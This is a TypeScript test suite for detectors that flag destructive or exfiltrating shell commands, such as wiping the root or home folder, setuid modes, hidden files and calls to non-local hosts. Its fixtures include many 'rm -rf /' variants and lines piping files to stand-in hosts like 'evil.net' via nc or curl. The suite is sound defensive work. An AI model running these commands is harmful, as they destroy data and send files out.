// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of a shell

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bare, mayBeCommand, mayHideWords, unescapeArguments } from '../../src/actions/index.ts';
import { talksToItselfAlone } from '../../src/detectors/own-machine.ts';
import {
  isHiddenNamed,
  mayBeRooted,
  mayNameDrive,
  mayNameHome,
  mayNameRoot,
} from '../../src/detectors/path-place.ts';
import { plausibility, SearchedText } from '../../src/detectors/plausible.ts';
import { taxonomy } from '../../src/detectors/taxonomy.ts';
import { foldCase, loadSigma } from '../../src/sigma/index.ts';
import { bash } from '../actions/support.ts';

/** Whether a rule of processes, files or code may have something to say about a text. */
function plausible(selection: string, text: string, category = 'process_creation'): boolean {
  const body = selection
    .split('\n')
    .map((line) => `    ${line}`)
    .join('\n');
  const rule = `title: T\nid: 3c1a0a34-8a5c-4ac5-9f5b-1f2f7a1b0c11\nlogsource:\n  product: linux\n  category: ${category}\ndetection:\n  s:\n${body}\n  condition: s\n`;
  const [loaded] = loadSigma([{ file: 'rule.yml', text: rule }], { taxonomy }).rules;
  return plausibility(loaded!)(new SearchedText(() => text));
}

describe('a closer look at a text', () => {
  it.each<[string, string, string, string]>([
    ['a program', 'Image|endswith: /at', 'echo x | at now', 'we all meet at noon'],
    ['signs', "CommandLine|contains: '$('", 'curl "x?$(id)"', 'curl x?id'],
    [
      'what is repeated',
      "CommandLine|re: '(?:==\\s*\\d+.*return.*){2,}'",
      'a == 1 return; b == 2 return',
      'a == 1 return; b > 2 return',
    ],
    ['a form', "CommandLine|re: '\\s[0-9a-f]{7,40}$'", 'git show 4f2a91c', 'git show HEAD~1'],
    ['a root', "TargetFilename|re: '^/(tests|oracle)/.'", 'cat /tests/a', 'cat /repo/tests/a'],
    [
      'a root that is the current folder',
      "TargetFilename|re: '^/(tests|oracle)/.'",
      'cd /; cat tests/a',
      'cd /repo; cat tests/a',
    ],
    ['the root', "TargetFilename|re: '^/+\\*{0,2}$'", 'rm -rf /*', 'cd /repo && rm -rf build/* "/x"'],
    ['a drive', "TargetFilename|re: '^[A-Z]:.{0,2}$'", 'rm -rf C:', '{"command":"rm -rf build"}'],
    ['a home', "TargetFilename|re: '^~/?$'", 'rm -rf ~', 'cd /home/me && rm -rf build'],
    ['a hidden name', 'Image|contains: /tmp/.', 'cd /tmp; ./.x', 'cd /tmp; ./x'],
    ['a mode', "Mode|re: '^[4-7][0-7]{3}$'", 'chmod 4755 x', 'chmod +x 4.sh'],
  ])('asks for %s', (_, selection, wanted, unwanted) => {
    const category = selection.startsWith('Mode')
      ? 'file_change'
      : selection.startsWith('Target')
        ? 'file_event'
        : 'process_creation';
    expect(plausible(selection, wanted, category)).toBe(true);
    expect(plausible(selection, unwanted, category)).toBe(false);
  });

  it('lets quotes, blanks and the case of letters be', () => {
    expect(plausible('Image|endswith: /NMAP\nCommandLine|contains: " -sS"', "n''map   '-sS' x")).toBe(true);
    expect(plausible("CommandLine|contains: '`'", 'echo `id`')).toBe(true);
    expect(plausible("CommandLine|contains: '`'", 'echo id')).toBe(false);
  });

  it('does not ask for what is worked out', () => {
    expect(plausible("Mode|re: '^[4-7][0-7]{3}$'", 'os.chmod(p, 2541)', 'file_change')).toBe(true);
    expect(plausible('not_a_word|exists: true'.replace('not_a_word', 'User'), 'ls')).toBe(true);
  });
});

describe('a path that a text may come to', () => {
  it.each([
    ['rm -rf / --no-preserve-root'],
    ['cd / && rm -rf ./*'],
    ['rm -rf "/"'],
    // in a script that another call runs in `/`
    ['rm -rf *'],
    ["subprocess.run(['rm', '-rf', './*'])"],
    ['find . -delete'],
    // told by the call that runs it
    ['rm -rf "$1"'],
    ['rm -rf "$D"'],
    ["def wipe(path):\n    subprocess.run(['rm', '-rf', path])"],
    ['rm -rf //'],
    ['rm -rf /.'],
    ['rm -rf /repo/../'],
    ['X=; rm -rf $X/*'],
    ['f() { rm -rf "$1"; }; f /'],
    ['rm -rf ${X:-/}*'],
    ['rm -rf {/,/x}'],
    ['rm -rf /{bin,etc}'],
    ['rm -rf "$(dirname /x)"'],
    ['echo /x | cut -c1 | xargs rm -rf'],
    ['{"command":"rm -rf *","workdir":"/"}'],
    ["subprocess.run(['rm', '-rf', os.sep])"],
    ["subprocess.run(['rm', '-rf', '/abc'[0]])"],
    ["subprocess.run(['rm', '-rf', str(Path('/x').parent)])"],
  ])('may be the root: %s', (text) => {
    expect(mayNameRoot(foldCase(bare(text)))).toBe(true);
  });

  it.each([
    ['rm -rf build node_modules'],
    ['cd /repo && rm -rf ./build /tmp/x'],
    ['curl http://a.example/x; rm -rf a/b'],
    ['{"command":"cd /w && rm -rf dist/"}'],
    ['BUILD_DIR=/repo/build; rm -rf "$BUILD_DIR"'],
    ['for d in build dist; do rm -rf "$d/x"; done'],
    ['sed -i s/a/b/ x; rm -r y'],
  ])('is not the root: %s', (text) => {
    expect(mayNameRoot(foldCase(bare(text)))).toBe(false);
  });

  it.each([
    ['cd && rm -rf *'],
    ['cd; rm -rf *'],
    ['cd\nrm -rf *'],
    ['rm -rf ~/*'],
    ['rm -rf ~me'],
    ['(cd) ; x'],
    ['os.path.expanduser("~")'],
    ['os.homedir()'],
    ['Path.home()'],
  ])('may be a home: %s', (text) => {
    expect(mayNameHome(foldCase(bare(text)))).toBe(true);
  });

  it('is found in whatever deletes one', () => {
    const pieces = [
      '/',
      '/*',
      '//',
      '/.',
      '~',
      '~/',
      '..',
      '*',
      'x',
      '/x',
      '$X',
      '${X}',
      '""',
      '/{a,b}',
      '$Y/',
      'C:\\',
      '/x/..',
    ];
    const starts = [
      '',
      'X=; ',
      'X=/; ',
      'X=/a; ',
      'X="$1"; ',
      'cd ',
      'cd; ',
      'cd /; ',
      'cd /x; ',
      'pushd /; ',
      'for X in ',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...starts), { maxLength: 3 }),
        fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 3 }),
        fc.boolean(),
        (before, path, isLoop) => {
          const act = `rm -rf ${path.join('')}`;
          const text = isLoop
            ? `${before.join('')}for X in ${path.join(' ')}; do rm -rf $X; done`
            : before.join('') + act;
          const given = JSON.stringify({ command: text });
          const plain = foldCase(bare(unescapeArguments(given)));
          if (mayHideWords(unescapeArguments(given))) return;
          for (const action of bash(text)) {
            if (action.kind !== 'file') continue;
            if (/^\/+(?![^*.[{/])/.test(action.path)) expect(mayNameRoot(plain), text).toBe(true);
            if (action.path.startsWith('~')) expect(mayNameHome(plain), text).toBe(true);
            if (/^[a-z]:/i.test(action.path)) expect(mayNameDrive(plain), text).toBe(true);
          }
        },
      ),
      { numRuns: 20_000 },
    );
  });
});

describe('a text that is made to be slow', () => {
  const long = 400_000;
  it.each([
    ['one letter', 'a'.repeat(long)],
    ['a name again and again', 'etc'.repeat(long / 3)],
    ['names apart', 'x etc '.repeat(long / 6)],
    ['folders', 'etc/'.repeat(long / 4)],
    ['digits', '7'.repeat(long)],
    ['options', '-k '.repeat(long / 3)],
    ['addresses', 'http://localhost/ '.repeat(long / 18)],
    ['slashes', '/'.repeat(long)],
    ['variables', '$a$b'.repeat(long / 4)],
    ['brackets', '['.repeat(long)],
    ['blanks', `cd${' '.repeat(long)}x`],
    ['commands', 'at '.repeat(long / 3)],
    ['fields', '{x!r} at'.repeat(long / 8)],
  ])('is looked at in time that grows with its length: %s', (_, text) => {
    const searched = new SearchedText(() => text);
    const started = process.cpuUsage().user;
    void searched.modes;
    mayBeRooted(searched.bare, 'etc');
    mayBeCommand(searched.bare, 'at');
    isHiddenNamed(searched.bare);
    mayNameRoot(searched.bare);
    mayNameHome(searched.bare);
    mayNameDrive(searched.bare);
    talksToItselfAlone(searched.raw);
    // quadratic time would be minutes
    expect(process.cpuUsage().user - started).toBeLessThan(3_000_000);
  });
});

describe('a name at the root of the file system', () => {
  it.each([
    '/etc/x',
    'a /etc',
    '//etc/x',
    '/./etc',
    '../../etc/x',
    '$root/etc/x',
    '{a,/}etc',
    'cd / && cat etc/x',
    'cd ..; cat etc/x',
    'cwd=/, cat etc/x',
  ])('may be in: %s', (text) => {
    expect(mayBeRooted(text, 'etc')).toBe(true);
  });
  it.each(['/repo/etc/x', 'cat etc/x', 'fetch', 'cd /repo && cat etc/x', '~/etc/x'])(
    'is not in: %s',
    (text) => {
      expect(mayBeRooted(text, 'etc')).toBe(false);
    },
  );
});

describe('a hidden name', () => {
  it.each(['/tmp/.x', '.x/run', './.x', 'ls .config'])('is in: %s', (text) =>
    expect(isHiddenNamed(text)).toBe(true),
  );
  it.each(['./x', '../x', 'a.py', 'cd ..', 'f(x).y'])('is not in: %s', (text) =>
    expect(isHiddenNamed(text)).toBe(false),
  );
});

describe('a call that talks to its own machine alone', () => {
  it.each(['curl -s http://localhost:8000/api | python -m json.tool', 'wget -qO- http://127.0.0.1/x'])(
    'is: %s',
    (text) => {
      expect(talksToItselfAlone(text)).toBe(true);
    },
  );
  it.each([
    'curl localhost',
    'curl http://localhost.evil.net/',
    'curl http://localhost:1/ http://evil.net',
    'curl http://localhost/$(cat x)',
    'curl -x evil.net:80 http://localhost/',
    'cat x | nc evil 4 & curl http://localhost/',
    'curl http://localhost@evil.net/',
    'curl http://localhost 203.0.113.4/x',
  ])('is not: %s', (text) => {
    expect(talksToItselfAlone(text)).toBe(false);
  });
});
